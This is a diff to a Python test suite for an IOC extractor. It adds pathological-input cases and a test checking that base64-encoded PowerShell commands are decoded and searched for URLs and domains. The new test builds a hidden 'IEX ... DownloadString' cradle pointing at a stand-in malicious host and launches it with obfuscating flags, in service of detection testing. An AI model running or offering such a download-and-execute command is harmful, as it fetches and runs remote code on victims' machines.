@@ -98,6 +98,8 @@ def test_attacker_markup_is_text_and_yields_only_real_indicators():
         "f" * 1_000_001,
         "http://" + "a" * 500_000,
         ("a" * 63 + ".") * 5_000,
+        "powershell -enc " + "QQBBAA" * 400_000,  # over the decode limit: skipped
+        "-e QQBBAEEAQQA= " * 50_000,
     ],
 )
 def test_huge_and_pathological_input_is_handled_quickly(payload):
@@ -105,6 +107,25 @@ def test_huge_and_pathological_input_is_handled_quickly(payload):
     df = extract_iocs(payload)
     assert time.perf_counter() - started < 3.0
     assert df.empty
+
+
+def test_powershell_encoded_commands_are_decoded_and_searched():
+    import base64
+
+    hidden = "IEX (New-Object Net.WebClient).DownloadString('http://malicious.example/p.ps1')"
+    payload = base64.b64encode(hidden.encode("utf-16-le")).decode()
+    for flag in ("-enc", "-e", "-EncodedCommand", "/ec", "-En"):
+        cmd = f"powershell.exe -nop -w hidden {flag} {payload}"
+        assert pairs(extract_iocs(cmd)) == [
+            ("http://malicious.example/p.ps1", "url"),
+            ("malicious.example", "dns"),
+        ], flag
+    cmd = f"powershell.exe -enc {payload}"
+    assert extract_iocs(cmd, decode=False).empty
+    # Look-alike flags and junk payloads are left alone.
+    assert extract_iocs(f"tool.exe -encrypt {payload}").empty
+    assert extract_iocs("powershell -enc !!notbase64!!").empty
+    assert extract_iocs("powershell -enc QUJDREVGR0g=").empty  # base64, but not UTF-16 text
 
 
 def test_alert_entities_json():
